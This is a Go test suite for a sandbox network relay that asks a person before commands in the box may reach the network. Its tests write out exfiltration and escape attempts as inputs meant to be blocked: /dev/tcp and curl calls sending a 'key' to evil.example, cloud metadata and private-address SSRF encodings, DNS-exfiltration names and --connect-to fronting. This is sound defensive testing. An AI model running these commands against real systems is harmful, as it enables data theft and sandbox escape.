package relay_test

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/tidemark/tidemark/internal/box"
	"github.com/tidemark/tidemark/internal/box/relay"
	"github.com/tidemark/tidemark/internal/test/boxtest"
)

func TestMain(m *testing.M) {
	box.Become()
	os.Exit(m.Run())
}

func TestAnOrdinaryUserHasTheSameWay(t *testing.T) { boxtest.AsOrdinaryUser(t) }

// outside is everybody else: it notes who asked for names, who was dialled and what they were told.
type outside struct {
	mu      sync.Mutex
	names   []string
	dialled []string
	heard   []string
	leads   map[string]string // names to addresses; 8.8.8.8 for those that are not in it
	plain   string            // where those listen who speak plainly, and with TLS
	secure  string
	roots   *x509.CertPool
}

func newOutside(t *testing.T) *outside {
	t.Helper()
	o := &outside{leads: map[string]string{}}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	o.plain = l.Addr().String()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go o.hear(c)
		}
	}()
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		o.note(&o.heard, fmt.Sprintf("%s %s host=%s auth=%q cookie=%q ua=%q body=%q", r.Method, r.RequestURI, r.Host, r.Header.Get("Authorization"),
			r.Header.Get("Cookie"), r.UserAgent(), body))
		if r.URL.Path == "/away" {
			w.Header().Set("Location", "https://docs.example/there")
			w.WriteHeader(http.StatusFound)
			return
		}
		if r.URL.Path == "/elsewhere" {
			w.Header().Set("Location", "https://evil.example/key")
			w.WriteHeader(http.StatusFound)
			return
		}
		_, _ = io.WriteString(w, "from outside\n")
	}))
	s.TLS, o.roots = certificate(t, "docs.example")
	s.StartTLS()
	o.secure = s.Listener.Addr().String()
	t.Cleanup(func() {
		_ = l.Close()
		s.CloseClientConnections()
		s.Close()
	})
	return o
}

// certificate is one for a host, and who believes it.
func certificate(t *testing.T, host string) (*tls.Config, *x509.CertPool) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	from := time.Now().Add(-time.Hour)
	made := &x509.Certificate{
		SerialNumber: big.NewInt(1), NotBefore: from, NotAfter: from.Add(48 * time.Hour), DNSNames: []string{host}, IsCA: true, BasicConstraintsValid: true,
	}
	raw, err := x509.CreateCertificate(rand.Reader, made, made, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	parsed, err := x509.ParseCertificate(raw)
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	roots.AddCert(parsed)
	return &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{raw}, PrivateKey: key}}, MinVersion: tls.VersionTLS12}, roots
}

// hear reads one line, notes it and answers.
func (o *outside) hear(c net.Conn) {
	defer c.Close()
	buf := make([]byte, 4<<10)
	n, _ := c.Read(buf)
	o.note(&o.heard, string(buf[:n]))
	_, _ = io.WriteString(c, "HTTP/1.0 200 OK\r\n\r\nheard\n")
}

func (o *outside) note(list *[]string, what string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	*list = append(*list, what)
}

func (o *outside) all() (names, dialled, heard []string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	return slices.Clone(o.names), slices.Clone(o.dialled), slices.Clone(o.heard)
}

func (o *outside) options(decide relay.Let) relay.Options {
	return relay.Options{
		Let: decide,
		Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
			o.note(&o.names, host)
			o.mu.Lock()
			defer o.mu.Unlock()
			if to := o.leads[host]; to == "none" {
				return nil, errors.New("no such host")
			} else if to != "" {
				var out []netip.Addr
				for _, a := range strings.Fields(to) {
					out = append(out, netip.MustParseAddr(a))
				}
				return out, nil
			}
			return []netip.Addr{netip.MustParseAddr("8.8.8.8")}, nil
		},
		Dial: func(ctx context.Context, to netip.AddrPort) (net.Conn, error) {
			o.note(&o.dialled, to.String())
			at := o.plain
			if to.Port() == 443 {
				at = o.secure
			}
			return (&net.Dialer{}).DialContext(ctx, "tcp", at)
		},
		Roots: o.roots,
	}
}

// asked is an owner who says one thing to everything, and what was asked.
type asked struct {
	mu   sync.Mutex
	asks []relay.Ask
}

func (a *asked) take(ask relay.Ask) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.asks = append(a.asks, ask)
}

func (a *asked) all() []relay.Ask {
	a.mu.Lock()
	defer a.mu.Unlock()
	return slices.Clone(a.asks)
}

func (a *asked) yes(_ context.Context, ask relay.Ask) relay.Decision {
	a.take(ask)
	ask.Asking()
	return relay.Decision{Allow: true}
}

func (a *asked) no(_ context.Context, ask relay.Ask) relay.Decision {
	a.take(ask)
	ask.Asking()
	return relay.Decision{Why: "the owner said no"}
}

func boxWith(t *testing.T, o relay.Options) (*boxtest.World, *box.Box) {
	t.Helper()
	w := boxtest.New(t)
	want := w.Want("one")
	want.Out = relay.New(o)
	return w, w.Open(want)
}

// A name stands for an address of the box's own, the same for as long as the box lives, and nobody outside hears of it.
func TestNamesStayInTheBox(t *testing.T) {
	boxtest.Needs(t, "getent")
	o, a := newOutside(t), &asked{}
	w, b := boxWith(t, o.options(a.yes))
	_, first := w.In(b, "getent ahostsv4 secret-data.attacker.example | head -1; getent ahostsv4 other.example | head -1; getent ahostsv4 Secret-Data.attacker.example. | head -1")
	lines := strings.Split(strings.TrimSpace(first), "\n")
	if len(lines) != 3 || !strings.HasPrefix(lines[0], "127.66.1.1 ") || !strings.HasPrefix(lines[1], "127.66.1.2 ") || !strings.HasPrefix(lines[2], "127.66.1.1 ") {
		t.Errorf("%q", first)
	}
	for _, name := range []string{"router", "printer.local", "db.internal", "metadata.google.internal", "x.localhost", "1.0.0.127.in-addr.arpa", "a..b.example", "x.test"} {
		if code, out := w.In(b, "getent ahostsv4 "+name); code == 0 {
			t.Errorf("%s is found: %s", name, out)
		}
	}
	if _, out := w.In(b, "getent ahostsv4 localhost"); !strings.Contains(out, "127.0.0.1") {
		t.Errorf("localhost: %s", out)
	}
	if names, dialled, heard := o.all(); len(names)+len(dialled)+len(heard)+len(a.all()) > 0 {
		t.Errorf("outside: %v %v %v", names, dialled, heard)
	}
}

// A connection waits for the answer, and the command's reader is told. Before the answer nothing leaves; after a yes everything is
// carried both ways.
func TestAConnectionIsHeldUntilAPersonAnswers(t *testing.T) {
	o := newOutside(t)
	asks, answer := make(chan relay.Ask), make(chan relay.Decision)
	w, b := boxWith(t, o.options(func(_ context.Context, a relay.Ask) relay.Decision {
		a.Asking()
		asks <- a
		return <-answer
	}))
	j := w.Start(b, "exec 3<>/dev/tcp/web.acme.example/22; echo hello >&3; while read -r l <&3 || [ -n \"$l\" ]; do echo \"$l\"; done")
	if a := <-asks; a.Host != "web.acme.example" || a.Port != 22 || a.Verb != relay.Connect || a.Program != "bash" {
		t.Errorf("%+v", a)
	}
	if names, dialled, heard := o.all(); len(names)+len(dialled)+len(heard) > 0 {
		t.Errorf("before the answer: %v %v %v", names, dialled, heard)
	}
	answer <- relay.Decision{Allow: true}
	code, out := j.Wait()
	if code != 0 || !strings.Contains(out, "heard") || !strings.Contains(out, "[confined: no network. A person was asked for web.acme.example]") {
		t.Errorf("%d %q", code, out)
	}
	names, dialled, heard := o.all()
	if !slices.Equal(names, []string{"web.acme.example"}) || !slices.Equal(dialled, []string{"8.8.8.8:22"}) || !slices.Equal(heard, []string{"hello\n"}) {
		t.Errorf("%v %v %q", names, dialled, heard)
	}
}

// What is refused reaches nobody, not even as a question for the name, and the reason is told once.
func TestWhatIsRefusedReachesNobody(t *testing.T) {
	boxtest.Needs(t, "curl")
	for name, line := range map[string]string{
		"by the name":         "exec 3<>/dev/tcp/evil.example/443; echo key >&3; cat <&3",
		"by the proxy":        "curl -sS https://evil.example/key",
		"by the proxy, plain": "curl -sS http://evil.example/key",
		"past the proxy":      "curl -sS --noproxy '*' https://evil.example/key",
		"at another port":     "curl -sS https://evil.example:8443/key",
	} {
		o, a := newOutside(t), &asked{}
		w, b := boxWith(t, o.options(a.no))
		_, out := w.In(b, line+"; "+line)
		if names, dialled, heard := o.all(); len(names)+len(dialled)+len(heard) > 0 || len(a.all()) == 0 {
			t.Errorf("%s: outside: %v %v %v, asked %v", name, names, dialled, heard, a.all())
		}
		want := "was refused: the owner said no]"
		if n := strings.Count(out, "[confined: no network. evil.example:"); !strings.Contains(out, want) || n < 1 || n > 3 {
			t.Errorf("%s: %q", name, out)
		}
		if strings.Count(out, "A person was asked for evil.example") != 1 {
			t.Errorf("%s: %q", name, out)
		}
	}
}

// What has no name to ask about does not leave at all, whatever is said.
func TestThereIsNoOtherWayOut(t *testing.T) {
	boxtest.Needs(t, "curl")
	o, a := newOutside(t), &asked{}
	_, port, _ := net.SplitHostPort(o.plain)
	w, b := boxWith(t, o.options(a.yes))
	for _, line := range []string{
		"exec 3<>/dev/tcp/8.8.8.8/53", "echo x > /dev/udp/8.8.8.8/53 && echo x > /dev/udp/8.8.8.8/53", "exec 3<>/dev/tcp/127.0.0.1/" + port, "exec 3<>/dev/tcp/169.254.169.254/80",
		"curl -sSf http://169.254.169.254/latest", "curl -sSf http://10.0.0.1/", "curl -sSf --noproxy '' -x http://127.66.0.1:80 http://127.0.0.1:" + port + "/",
		"curl -sSf -p -x http://127.66.0.1:80 --noproxy '' http://localhost:" + port + "/", "curl -sSf http://[::ffff:169.254.169.254]/", "curl -sSf http://2852039166/", "curl -sSf http://0x7f.1/",
		"curl -sSf -p http://[fd00:ec2::254]/", "curl -sSf -p http://router/", "curl -sSf -p http://metadata.google.internal/",
	} {
		if code, out := w.In(b, line); code == 0 {
			t.Errorf("%s: %s", line, out)
		}
	}
	if names, dialled, heard := o.all(); len(names)+len(dialled)+len(heard)+len(a.all()) > 0 {
		t.Errorf("outside: %v %v %v, asked %v", names, dialled, heard, a.all())
	}
}

// Somebody who says yes to a name does not say yes to where its owner makes it lead.
func TestAYesToANameIsNoneToPrivateAddresses(t *testing.T) {
	boxtest.Needs(t, "curl")
	o, a := newOutside(t), &asked{}
	own := ownAddress()
	leads := []string{"127.0.0.1", "10.0.0.7", "192.168.1.1", "169.254.169.254", "::1", "fd00:ec2::254", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "100.64.0.1", "0.0.0.0", "127.66.0.1", own, "none"}
	for i, to := range leads {
		o.leads["n"+strconv.Itoa(i)+".attacker.example"] = to
	}
	o.leads["both.attacker.example"] = "10.0.0.7 8.8.4.4"
	w, b := boxWith(t, o.options(a.yes))
	for i := range leads {
		host := "n" + strconv.Itoa(i) + ".attacker.example"
		for _, line := range []string{"curl -sSf http://" + host + "/", "curl -sSf --noproxy '*' http://" + host + "/", "curl -sSfk https://" + host + "/"} {
			if code, out := w.In(b, line); code == 0 {
				t.Errorf("%s leads to %s: %s", line, leads[i], out)
			}
		}
	}
	if _, dialled, heard := o.all(); len(dialled)+len(heard) > 0 {
		t.Errorf("outside: %v %v", dialled, heard)
	}
	if code, out := w.In(b, "curl -sSk https://both.attacker.example/"); code != 0 {
		t.Errorf("%d %s", code, out)
	}
	if _, dialled, _ := o.all(); !slices.Equal(dialled, []string{"8.8.4.4:443"}) {
		t.Errorf("dialled: %v", dialled)
	}
}

// ownAddress is an address of this machine that others could reach, or a private one if it has none.
func ownAddress() string {
	all, _ := net.InterfaceAddrs()
	for _, a := range all {
		if p, err := netip.ParsePrefix(a.String()); err == nil && !p.Addr().IsLoopback() && p.Addr().Is4() {
			return p.Addr().String()
		}
	}
	return "10.0.0.7"
}

// A yes to one name is not one to others that live at its address.
func TestAGreetingForSomebodyElseIsRefused(t *testing.T) {
	boxtest.Needs(t, "curl")
	o := newOutside(t)
	w, b := boxWith(t, o.options(func(_ context.Context, a relay.Ask) relay.Decision {
		return relay.Decision{Allow: a.Host == "front.example"}
	}))
	if code, out := w.In(b, "curl -sSk --noproxy '*' https://front.example/a; curl -sSk https://front.example/b"); code != 0 || strings.Count(out, "from outside") != 2 {
		t.Errorf("%d %s", code, out)
	}
	for _, line := range []string{
		"curl -sSk --noproxy '*' --connect-to evil.example:443:front.example:443 https://evil.example/c",
		"curl -sSk --connect-to evil.example:443:front.example:443 https://evil.example/c",
		"curl -sSk https://evil.example/c",
	} {
		if code, out := w.In(b, line); code == 0 {
			t.Errorf("%s: %s", line, out)
		}
	}
	if _, _, heard := o.all(); len(heard) != 2 || strings.Contains(strings.Join(heard, " "), "/c") {
		t.Errorf("heard: %q", heard)
	}
}

// A host that may be read is read, by the relay: nothing but what is asked for gets there. What cannot be looked into is asked about.
func TestAHostThatMayBeReadIsOnlyRead(t *testing.T) {
	boxtest.Needs(t, "curl")
	o, a := newOutside(t), &asked{}
	opts := o.options(a.no)
	opts.Hosts = []string{"Docs.example"}
	w, b := boxWith(t, opts)
	for _, line := range []string{
		"curl -sSf -H 'Authorization: key' -H 'Cookie: key' -A key http://docs.example/a?x=1", "curl -sSf --noproxy '*' -b key=1 -u key:key http://docs.example/a?x=1",
	} {
		if code, out := w.In(b, line); code != 0 || out != "from outside\n" {
			t.Errorf("%s: %d %s", line, code, out)
		}
	}
	if _, out := w.In(b, "curl -sS -o /dev/null -w '%{redirect_url}' http://docs.example/away"); !strings.Contains(out, "http://docs.example/there") {
		t.Errorf("redirect: %s", out)
	}
	_, _, heard := o.all()
	for _, h := range heard {
		if !strings.HasPrefix(h, "GET /a") || !strings.Contains(h, `host=docs.example auth="" cookie="" ua="tidemark" body=""`) {
			t.Errorf("heard: %s", h)
		}
	}
	if len(heard) != 3 || len(a.all()) != 0 {
		t.Errorf("heard %d, asked %v", len(heard), a.all())
	}
	for _, line := range []string{
		"curl -sSf -d key http://docs.example/b", "curl -sSf -X PUT http://docs.example/b", "curl -sSf -X GET -d key http://docs.example/b",
		"curl -sSf -X GET -H 'Transfer-Encoding: chunked' -d key http://docs.example/b", "curl -sSf --noproxy '*' -d key http://docs.example/b",
		"curl -sSf http://docs.example/$(head -c 3000 /dev/zero | tr '\\0' a)", "curl -sSfk https://docs.example/b", "curl -sSfk --noproxy '*' https://docs.example/b",
		"curl -sSfp http://docs.example/b", "curl -sSf http://docs.example:8080/b", "curl -sSf http://sub.docs.example/b",
	} {
		if code, out := w.In(b, line); code == 0 {
			t.Errorf("%s: %s", line, out)
		}
	}
	if _, _, heard := o.all(); len(heard) != 3 {
		t.Errorf("heard: %q", heard[3:])
	}
	if len(a.all()) == 0 {
		t.Error("nobody was asked about what cannot be looked into")
	}
}

// A yes to reading lets nothing through that sends, nor does one to another host; and what only reads is asked about as such.
func TestAYesToReadingIsNoneToSending(t *testing.T) {
	boxtest.Needs(t, "curl")
	o, a := newOutside(t), &asked{}
	w, b := boxWith(t, o.options(func(_ context.Context, ask relay.Ask) relay.Decision {
		a.take(ask)
		return relay.Decision{Allow: ask.Verb == relay.Read && ask.Host == "docs.example", Why: "the owner said no"}
	}))
	for _, line := range []string{"curl -sSf -H 'Cookie: key' -A key http://docs.example/a", "curl -sSf --noproxy '*' -u key:key http://docs.example/a"} {
		if code, out := w.In(b, line); code != 0 || !strings.Contains(out, "from outside") {
			t.Errorf("%s: %d %s", line, code, out)
		}
	}
	for _, line := range []string{
		"curl -sSf -d key http://docs.example/b", "curl -sSf --noproxy '*' -d key http://docs.example/b", "curl -sSf -X DELETE http://docs.example/b",
		"curl -sSf -X GET -d key http://docs.example/b", "curl -sSfk https://docs.example/b", "curl -sSf http://docs.example:8080/b",
		"curl -sSf http://docs.example/$(head -c 3000 /dev/zero | tr '\\0' a)", "curl -sSf http://evil.example/b",
		"curl -sSf --noproxy '*' -H 'Host: docs.example' http://evil.example/b", "curl -sSf -H 'Upgrade: x' -H 'Connection: upgrade' http://docs.example/b",
	} {
		if code, out := w.In(b, line); code == 0 {
			t.Errorf("%s: %s", line, out)
		}
	}
	_, _, heard := o.all()
	for _, h := range heard {
		if !strings.HasPrefix(h, "GET /a ") || strings.Contains(h, "key") {
			t.Errorf("heard: %s", h)
		}
	}
	if len(heard) != 2 {
		t.Errorf("heard %d", len(heard))
	}
}

// A redirect to another host is a question of its own; one within the host that is read is read.
func TestARedirectElsewhereIsAskedAbout(t *testing.T) {
	boxtest.Needs(t, "curl")
	o, a := newOutside(t), &asked{}
	w, b := boxWith(t, o.options(func(_ context.Context, ask relay.Ask) relay.Decision {
		a.take(ask)
		return relay.Decision{Allow: ask.Verb == relay.Read && ask.Host == "docs.example", Why: "the owner said no"}
	}))
	if code, out := w.In(b, "curl -sSfL http://docs.example/away"); code != 0 || !strings.Contains(out, "from outside") {
		t.Errorf("%d %s", code, out)
	}
	if code, out := w.In(b, "curl -sSfL http://docs.example/elsewhere"); code == 0 || !strings.Contains(out, "evil.example:443 was refused") {
		t.Errorf("%d %s", code, out)
	}
	asks := a.all()
	if last := asks[len(asks)-1]; last.Host != "evil.example" || last.Verb != relay.Connect {
		t.Errorf("asked %+v", asks)
	}
	if names, _, _ := o.all(); slices.Contains(names, "evil.example") {
		t.Error("its name was asked outside")
	}
}

// Ports of this machine are reached where they were named, and no others.
func TestPortsOfThisMachine(t *testing.T) {
	o, a := newOutside(t), &asked{}
	_, port, _ := net.SplitHostPort(o.plain)
	_, other, _ := net.SplitHostPort(o.secure)
	open, _ := strconv.Atoi(port)
	opts := o.options(a.yes)
	opts.Ports = []int{open}
	w, b := boxWith(t, opts)
	if code, out := w.In(b, "exec 3<>/dev/tcp/127.0.0.1/"+port+"; echo hello >&3; cat <&3"); code != 0 || !strings.Contains(out, "heard") {
		t.Errorf("%d %s", code, out)
	}
	if code, out := w.In(b, "exec 3<>/dev/tcp/127.0.0.1/"+other); code == 0 {
		t.Errorf("another port: %s", out)
	}
	opts.Closed = []int{open}
	want := w.Want("two")
	want.Out = relay.New(opts)
	if b, err := box.Open(want); err == nil {
		_, _ = b.Close()
		t.Error("a port of the monitor was opened")
	}
}

// A question ends when nobody waits for its answer any more.
func TestAQuestionEndsWithTheCommand(t *testing.T) {
	o := newOutside(t)
	asks, ended := make(chan struct{}), make(chan struct{})
	w, b := boxWith(t, o.options(func(ctx context.Context, _ relay.Ask) relay.Decision {
		close(asks)
		<-ctx.Done()
		close(ended)
		return relay.Decision{Allow: true}
	}))
	j := w.Start(b, "exec bash -c 'exec 3<>/dev/tcp/web.acme.example/443; echo hello >&3; exec cat <&3'")
	<-asks
	j.Signal(syscall.SIGKILL)
	<-ended
	_, _ = j.Wait()
	if names, dialled, heard := o.all(); len(names)+len(dialled)+len(heard) > 0 {
		t.Errorf("outside: %v %v %v", names, dialled, heard)
	}
}

// Commands know of the proxy where there is a way out, and of nothing where there is none.
func TestTheBoxSaysWhereTheWayIs(t *testing.T) {
	o, a := newOutside(t), &asked{}
	w, b := boxWith(t, o.options(a.yes))
	if _, out := w.In(b, "echo $HTTPS_PROXY; cat /etc/resolv.conf"); !strings.Contains(out, "http://"+box.Proxy) || !strings.Contains(out, "nameserver 127.0.0.1\n") {
		t.Errorf("%s", out)
	}
	plain := w.Open(w.Want("plain"))
	if _, out := w.In(plain, "echo -$HTTPS_PROXY-; exec 3<>/dev/udp/127.0.0.1/53; echo x >&3; echo x >&3 || echo nobody"); !strings.Contains(out, "--\n") || !strings.Contains(out, "nobody") {
		t.Errorf("%s", out)
	}
}

// No command can take the place of the resolver or of a door.
func TestNoCommandTakesADoorsPlace(t *testing.T) {
	boxtest.Needs(t, "python3")
	o, a := newOutside(t), &asked{}
	w, b := boxWith(t, o.options(a.yes))
	for _, at := range []string{"('127.0.0.1', 53)", "('127.66.0.1', 80)", "('127.66.1.1', 443)", "('0.0.0.0', 443)"} {
		line := `python3 -c "import socket as s; a = s.socket(); a.setsockopt(s.SOL_SOCKET, s.SO_REUSEADDR, 1); a.setsockopt(s.SOL_SOCKET, s.SO_REUSEPORT, 1); a.bind(` + at + `); a.listen()"`
		if code, out := w.In(b, line); code == 0 {
			t.Errorf("%s is bound: %s", at, out)
		}
	}
	if code, out := w.In(b, `python3 -c "import socket as s; a = s.socket(); a.bind(('0.0.0.0', 8080)); a.listen()"`); code != 0 {
		t.Errorf("a server of the work: %s", out)
	}
}
